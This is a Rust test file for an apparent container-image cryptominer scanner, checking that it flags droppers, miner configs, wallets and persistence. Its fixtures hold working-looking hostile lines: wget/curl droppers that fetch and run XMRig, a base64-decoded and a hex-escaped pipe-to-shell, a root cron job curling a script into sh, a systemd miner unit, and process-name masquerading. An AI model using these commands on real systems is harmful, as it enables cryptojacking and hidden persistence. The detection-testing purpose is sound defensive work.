//! Evidence besides a miner binary: the image config, droppers, persistence
//! and the places miners hide.

use minehound::{IMAGE_CONFIG_RULE, Severity, Status};
use minehound_testdata::{DEMO_MONERO_ADDRESS, Entry, ImageSpec, Layer};

use crate::support::*;

fn rules_at(report: &minehound::Report, path: &str) -> Vec<String> {
    findings_for(report, path)
        .iter()
        .map(|f| format!("{} {}", f.rule, f.severity))
        .collect()
}

/// Builds `spec` as an OCI layout in a temporary directory and scans it.
fn scan_image(spec: &ImageSpec) -> minehound::Report {
    let dir = tempfile::tempdir().unwrap();
    scan(&layout(dir.path(), &spec.build())).unwrap()
}

/// An image with no miner binary: its entrypoint script fetches XMRig and its
/// config, then starts it; the config sits beside the script.
#[test]
fn a_dropper_only_image_is_high() {
    let entry = "#!/bin/sh\n\
        set -e\n\
        wget -q https://downloads.example.invalid/xmrig-6.23.0-linux-static-x64.tar.gz -O /tmp/app.tgz\n\
        tar xzf /tmp/app.tgz -C /opt/app --strip-components=1\n\
        chmod +x /opt/app/xmrig\n\
        exec /opt/app/xmrig --config /opt/app/app.json\n";
    let config = format!(
        "{{\n  \"autosave\": true,\n  \"cpu\": true,\n  \"pools\": [\n    {{\"url\": \"gulf.moneroocean.stream:10128\", \"user\": \"{DEMO_MONERO_ADDRESS}\", \"pass\": \"x\"}}\n  ]\n}}\n"
    );
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "COPY entrypoint.sh app.json /",
            vec![
                Entry::executable("/entrypoint.sh", entry),
                Entry::file("/opt/app/app.json", config),
            ],
        )],
        entrypoint: Some(vec!["/entrypoint.sh".into()]),
        ..ImageSpec::default()
    };
    let report = scan_image(&image);
    assert!(
        report.highest_severity() >= Some(Severity::High),
        "{:#?}",
        report.findings
    );
    let script = rules_at(&report, "/entrypoint.sh");
    assert!(
        script.contains(&"MH-DROPPER-SCRIPT high".to_string()),
        "{script:?}"
    );
    let config = rules_at(&report, "/opt/app/app.json");
    assert!(
        config.contains(&"MH-MINER-CONFIG high".to_string())
            && config.contains(&"MH-MONERO-WALLET high".to_string()),
        "{config:?}"
    );
}

/// The same miner started from the image config alone: Cmd names the pool
/// and wallet, Env carries them, a history line fetches the miner.
#[test]
fn image_config_that_starts_a_miner_is_high() {
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "RUN wget -q https://x.example.invalid/xmrig -O /usr/bin/app && chmod +x /usr/bin/app",
            vec![Entry::file("/etc/os-release", "ID=test\n")],
        )],
        entrypoint: Some(vec!["/usr/bin/app".into()]),
        cmd: Some(vec![
            "-o".into(),
            "pool.supportxmr.com:443".into(),
            "-u".into(),
            DEMO_MONERO_ADDRESS.into(),
            "--tls".into(),
        ]),
        env: vec![
            format!("WALLET={DEMO_MONERO_ADDRESS}"),
            "POOL=stratum+tcp://pool.supportxmr.com:3333".into(),
        ],
        ..ImageSpec::default()
    };
    let report = scan_image(&image);
    let config: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.rule == IMAGE_CONFIG_RULE)
        .collect();
    for field in ["Entrypoint+Cmd", "Env", "history[0]"] {
        let path = format!("<image config>/{field}");
        let found: Vec<_> = config.iter().filter(|f| f.path == path).collect();
        assert!(
            !found.is_empty() && found.iter().all(|f| f.severity >= Severity::High),
            "{path}: {:#?}",
            report.findings
        );
        assert!(found.iter().all(|f| f.status == Status::Present));
    }
    let history = config
        .iter()
        .find(|f| f.path == "<image config>/history[0]")
        .unwrap();
    assert_eq!(history.layer.index, 0);
    assert!(
        history
            .layer
            .created_by
            .as_deref()
            .unwrap()
            .contains("xmrig")
    );
}

/// An entrypoint in a hiding place is supporting evidence: low alone.
#[test]
fn an_entrypoint_in_a_hiding_place_alone_is_low() {
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "COPY app /dev/shm/",
            vec![Entry::file("/etc/os-release", "ID=test\n")],
        )],
        entrypoint: Some(vec![
            "/bin/sh".into(),
            "-c".into(),
            "/dev/shm/.x/kdevtmpfsi".into(),
        ]),
        ..ImageSpec::default()
    };
    let report = scan_image(&image);
    assert_eq!(
        rules_at(&report, "<image config>/Entrypoint+Cmd"),
        ["MH-HIDDEN-PATH low"],
        "{:#?}",
        report.findings
    );
}

#[test]
fn a_plain_image_config_is_clean() {
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "RUN apt-get update && apt-get install -y curl && curl -fsSL https://deb.nodesource.com/setup_22.x -o /tmp/s && chmod +x /tmp/s",
            vec![Entry::file("/etc/os-release", "ID=test\n")],
        )],
        entrypoint: Some(vec!["/usr/bin/node".into(), "server.js".into()]),
        cmd: Some(vec![
            "--port".into(),
            "8080".into(),
            "-o".into(),
            "out.log".into(),
        ]),
        env: vec![
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into(),
            "NODE_ENV=production".into(),
        ],
        ..ImageSpec::default()
    };
    let report = scan_image(&image);
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
}

#[test]
fn artifacts_each_match_their_rule() {
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "/opt/xmr-stak/pools.txt",
            "\"pool_list\" :\n[\n  {\"pool_address\" : \"pool.supportxmr.com:5555\", \"wallet_address\" : \"x\", \"rig_id\" : \"\", \"pool_password\" : \"x\", \"use_nicehash\" : false, \"use_tls\" : false, \"tls_fingerprint\" : \"\", \"pool_weight\" : 1 },\n],\n\"currency\" : \"monero\",\n".into(),
            "MH-MINER-CONFIG",
        ),
        (
            "/opt/xmr-stak/config.txt",
            "\"call_timeout\" : 10,\n\"retry_time\" : 30,\n\"giveup_limit\" : 0,\n\"verbose_level\" : 3,\n\"print_motd\" : true,\n\"h_print_time\" : 60,\n\"aes_override\" : null,\n\"use_slow_memory\" : \"warn\",\n\"tls_secure_algo\" : true,\n\"daemon_mode\" : false,\n\"flush_stdout\" : false,\n".into(),
            "MH-MINER-CONFIG",
        ),
        (
            "/etc/cpuminer.json",
            "{\"url\": \"stratum+tcp://pool.example.invalid:3333\", \"user\": \"worker\", \"pass\": \"x\", \"algo\": \"cryptonight\"}\n".into(),
            "MH-MINER-CONFIG",
        ),
        (
            "/app/get.py",
            "import os, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/xmrig', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x --donate-level 1 -o pool.hashvault.pro:80')\n".into(),
            "MH-DROPPER-SCRIPT",
        ),
        (
            "/usr/local/bin/b64.sh",
            "#!/bin/sh\necho B64 | base64 -d | sh\n".replace("B64", "Y2QgL3RtcCAmJiBjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy94IC1vIHggJiYgLi94IC1vIHN0cmF0dW0rdGNwOi8vcG9vbC5taW5leG1yLmNvbTo0NDQ0IC11IHc="),
            "MH-DROPPER-SCRIPT",
        ),
        (
            "/etc/systemd/system/sysupdate.service",
            "[Unit]\nDescription=update\n[Service]\nExecStart=/usr/local/bin/kswapd0 -o pool.hashvault.pro:443 -k --tls\nRestart=always\n[Install]\nWantedBy=multi-user.target\n".into(),
            "MH-MINER-SYSTEMD-UNIT",
        ),
        (
            "/var/spool/cron/crontabs/root",
            "*/5 * * * * curl -fsSL http://203.0.113.7/d.sh | sh > /dev/null 2>&1\n".into(),
            "MH-MINER-CRON",
        ),
        (
            "/etc/cron.d/kinsing",
            "@reboot root /tmp/kdevtmpfsi > /dev/null 2>&1\n".into(),
            "MH-MINER-CRON",
        ),
        (
            "/usr/local/bin/up.sh",
            "#!/bin/bash\neval \"$(printf '\\x63\\x75\\x72\\x6c -s http://203.0.113.7/\\x78\\x6d\\x72\\x69\\x67 -o /tmp/x')\"\n".into(),
            "MH-DROPPER-ESCAPED",
        ),
        (
            "/usr/local/bin/hide.sh",
            "#!/bin/sh\ncp app /tmp/.X11-unix/kswapd0\nchmod +x /tmp/.X11-unix/kswapd0\nnohup /tmp/.X11-unix/kswapd0 &\n".into(),
            "MH-HIDING-PLACE",
        ),
        (
            "/usr/local/bin/run.sh",
            "#!/bin/bash\nexec -a '[kworker/0:2]' /opt/app/app\n".into(),
            "MH-HIDING-PLACE",
        ),
    ];
    let entries = cases
        .iter()
        .map(|(path, text, _)| Entry::file(path, text.as_bytes()))
        .collect();
    let report = scan_image(&ImageSpec {
        layers: vec![Layer::gzip("COPY . /", entries)],
        ..ImageSpec::default()
    });
    for (path, _, rule) in &cases {
        let found = rules_at(&report, path);
        assert!(
            found.iter().any(|r| r.starts_with(rule)),
            "{path}: {found:?}"
        );
    }
    // Hiding alone is supporting evidence: at most low.
    assert!(
        findings_for(&report, "/usr/local/bin/hide.sh")
            .iter()
            .all(|f| f.severity <= Severity::Low)
    );
}
